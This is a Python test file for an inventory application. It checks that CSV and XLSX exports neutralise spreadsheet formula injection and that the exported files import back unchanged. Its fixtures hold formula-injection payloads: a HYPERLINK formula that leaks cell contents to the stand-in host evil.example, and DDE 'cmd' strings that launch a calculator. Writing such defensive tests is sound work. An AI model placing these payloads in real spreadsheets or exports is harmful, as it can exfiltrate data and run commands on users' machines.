"""Formula injection in the exports (issue 25, item 1): a text cell that a spreadsheet would run as a formula (first
character ``=``, ``+``, ``-``, ``@``, tab or carriage return) is written to CSV with one ``'`` before it (OWASP's
advice), and the importer takes that one ``'`` off again, so an export still imports back unchanged; numbers, dates
and booleans are never prefixed. XLSX cells are written as strings, never as formulas. The commands and the admin's
actions write through the same exporter."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from inventory import custom_values
from inventory.custom_values.crypto import decrypt
from inventory.models import Accessory, Asset, AssetFieldValue, Component, Consumable, License
from tests.factories import (
    AccessoryFactory,
    AssetFactory,
    AssetModelFactory,
    CategoryFactory,
    ComponentFactory,
    ConsumableFactory,
    CustomFieldFactory,
    CustomFieldsetFactory,
    CustomFieldsetFieldFactory,
    LicenseFactory,
)

pytestmark = pytest.mark.django_db

#: Values a spreadsheet would run, one per trigger character, and one that already starts with a quote.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
QUOTED = "'=already quoted"


def command(name, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command(name, *args, "--no-progress", stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def exported_csv(kind: str, *args) -> list[dict[str, str]]:
    out, _ = command(f"export_{kind}", *args)
    return list(csv.DictReader(io.StringIO(out)))


def make_items(kind: str):
    """One item of ``kind`` whose text cells start with each trigger character; its cost is a number."""
    if kind == "assets":
        model = AssetModelFactory(name=MINUS, model_number="M-1", category=CategoryFactory(name=AT))
        return AssetFactory(asset_tag="F-1", name=FORMULA, serial=PLUS, notes=QUOTED, order_number=AT, model=model,
                            purchase_cost="12.50")
    common = {"name": FORMULA, "notes": AT, "order_number": PLUS, "purchase_cost": "12.50"}
    if kind == "accessories":
        return AccessoryFactory(model_number=MINUS, **common)
    if kind == "consumables":
        return ConsumableFactory(item_no=MINUS, model_number=QUOTED, **common)
    if kind == "components":
        return ComponentFactory(serial=MINUS, **common)
    return LicenseFactory(serial=MINUS, license_name=QUOTED, license_email="a@example.com", **common)


MODELS = {"assets": Asset, "accessories": Accessory, "consumables": Consumable, "components": Component,
          "licenses": License}
TEXT_FIELDS = {
    "assets": ("asset_tag", "name", "serial", "notes", "order_number", "purchase_cost"),
    "accessories": ("name", "notes", "order_number", "model_number", "purchase_cost"),
    "consumables": ("name", "notes", "order_number", "model_number", "item_no", "purchase_cost"),
    "components": ("name", "notes", "order_number", "serial", "purchase_cost"),
    "licenses": ("name", "notes", "order_number", "serial", "license_name", "purchase_cost"),
}


@pytest.mark.parametrize("kind", list(MODELS))
def test_csv_export_quotes_formula_text_and_imports_back_unchanged(superuser, tmp_path, kind):
    item = make_items(kind)
    model = MODELS[kind]
    before = model.objects.values(*TEXT_FIELDS[kind]).get(pk=item.pk)

    path = tmp_path / "export.csv"
    command(f"export_{kind}", "--output", str(path))
    cells = list(csv.DictReader(io.StringIO(path.read_text())))[0]
    name_header = "Name" if kind == "assets" else "Item Name"
    assert cells[name_header] == "'" + FORMULA
    assert cells["Notes"] == ("''=already quoted" if kind == "assets" else "'" + AT)
    assert cells["Purchase Cost"] == "12.50"  # a number: never quoted
    assert not any(value[:1] in "=+-@\t\r" for value in cells.values() if value), cells
    if kind == "assets":
        assert cells["Model name"] == "'" + MINUS and cells["Category"] == "'" + AT
        assert cells["Serial"] == "'" + PLUS

    # The same file imported with --update changes nothing; into an empty table it gives the same item back.
    out, err = command(f"import_{kind}", str(path), "--update")
    assert "1 rows: 0 created, 0 updated, 1 skipped, 0 failed." in out, (out, err)
    model.objects.all().delete()
    out, err = command(f"import_{kind}", str(path))
    assert "1 rows: 1 created" in out, (out, err)
    assert model.objects.values(*TEXT_FIELDS[kind]).get() == before
    if kind == "assets":
        assert Asset.objects.get().model.name == MINUS and Asset.objects.get().model.category.name == AT
    again = tmp_path / "again.csv"
    command(f"export_{kind}", "--output", str(again))
    assert again.read_text() == path.read_text()


def test_whitespace_triggers_are_quoted(superuser):
    AssetFactory(asset_tag="F-1", notes="\tTAB", order_number="\rCR")
    cells = exported_csv("assets")[0]
    assert cells["Notes"] == "'\tTAB" and cells["Order Number"] == "'\rCR"


def test_a_hand_written_quote_before_ordinary_text_is_kept(superuser, tmp_path):
    path = tmp_path / "in.csv"
    with open(path, "w", newline="") as handle:
        csv.writer(handle).writerows([["Asset Tag", "Model name", "Category", "Name", "Notes"],
                                      ["F-1", "M", "C", "'=1+1", "'quoted text"]])
    out, err = command("import_assets", str(path))
    assert "1 created" in out, err
    asset = Asset.objects.get()
    assert asset.name == "=1+1" and asset.notes == "'quoted text"


@pytest.fixture
def custom_model():
    fields = {
        "imei": CustomFieldFactory(name="IMEI", is_unique=True),
        "key": CustomFieldFactory(name="Recovery Key", field_encrypted=True, is_unique=True),
        "odd": CustomFieldFactory(name="=Odd header"),
    }
    fieldset = CustomFieldsetFactory()
    for order, field_ in enumerate(fields.values(), start=1):
        CustomFieldsetFieldFactory(fieldset=fieldset, field=field_, order=order)
    return AssetModelFactory(name="ThinkPad", model_number="T14", fieldset=fieldset), fields


def test_custom_values_round_trip_with_formula_text(superuser, custom_model, tmp_path):
    model, fields = custom_model
    asset = AssetFactory(model=model, asset_tag="CF-1")
    custom_values.write_values(asset, custom_values.CustomInput(values={
        fields["imei"].pk: (fields["imei"], MINUS), fields["key"].pk: (fields["key"], FORMULA),
        fields["odd"].pk: (fields["odd"], "-12.50")}))

    path = tmp_path / "export.csv"
    command("export_assets", "--output", str(path), "--user", "admin")
    rows = list(csv.reader(io.StringIO(path.read_text())))
    assert rows[0][-3:] == ["IMEI", "Recovery Key", "'=Odd header"]
    assert rows[1][-3:] == ["'" + MINUS, "'" + FORMULA, "'-12.50"]

    out, err = command("import_assets", str(path), "--update")
    assert "1 rows: 0 created, 0 updated, 1 skipped, 0 failed." in out, (out, err)
    Asset.objects.all().delete()
    out, err = command("import_assets", str(path))
    assert "1 rows: 1 created" in out, (out, err)
    values = {row.field_id: row.value for row in AssetFieldValue.objects.all()}
    assert values[fields["imei"].pk] == MINUS and values[fields["odd"].pk] == "-12.50"
    assert decrypt(values[fields["key"].pk]) == FORMULA


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_export_writes_formula_text_as_strings(superuser, custom_model, tmp_path):
    model, fields = custom_model
    asset = AssetFactory(model=model, asset_tag="00123", name=FORMULA, notes=AT)
    custom_values.write_values(asset, custom_values.CustomInput(values={fields["odd"].pk: (fields["odd"], "=1+1")}))
    target = tmp_path / "assets.xlsx"
    command("export_assets", "--format", "xlsx", "--output", str(target))

    assert "<f>" not in _sheet_xml(target.read_bytes())
    sheet = load_workbook(target).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert row["Name"].value == FORMULA and row["Name"].data_type == "s" and row["Name"].quotePrefix
    assert row["Notes"].value == AT and row["Asset Tag"].value == "00123"
    assert row["=Odd header"].value == "=1+1" and row["=Odd header"].data_type == "s"
    assert all(cell.data_type == "s" for cell in sheet[1])


@pytest.mark.urls("tests.inventory.transfer.csv_admin_site")
def test_admin_export_actions_and_import_handle_formula_text(client, superuser, settings, tmp_path):
    settings.CSV_IMPORT_DIR = str(tmp_path / "imports")
    client.force_login(superuser)
    asset = AssetFactory(asset_tag="F-1", name=FORMULA, notes=PLUS)

    response = client.post("/csvadmin/inventory/asset/", {"action": "export_selected_csv",
                                                          ACTION_CHECKBOX_NAME: [asset.pk]})
    assert response.status_code == 200
    content = response.content
    cells = list(csv.DictReader(io.StringIO(content.decode())))[0]
    assert cells["Name"] == "'" + FORMULA and cells["Notes"] == "'" + PLUS

    response = client.post("/csvadmin/inventory/asset/", {"action": "export_selected_xlsx",
                                                          ACTION_CHECKBOX_NAME: [asset.pk]})
    assert response.status_code == 200 and "<f>" not in _sheet_xml(response.content)

    # The admin's import of its own export: the preview and the stored values show the text without the quote.
    Asset.objects.all().delete()
    upload = SimpleUploadedFile("assets.csv", content, content_type="text/csv")
    response = client.post("/csvadmin/inventory/asset/import/", {"file": upload})
    assert response.status_code == 200
    assert response.context["preview_rows"][0]["cells"]["name"] == FORMULA
    response = client.post("/csvadmin/inventory/asset/import/confirm/", {"token": response.context["token"]})
    assert response.status_code == 302
    stored = Asset.objects.get()
    assert stored.name == FORMULA and stored.notes == PLUS
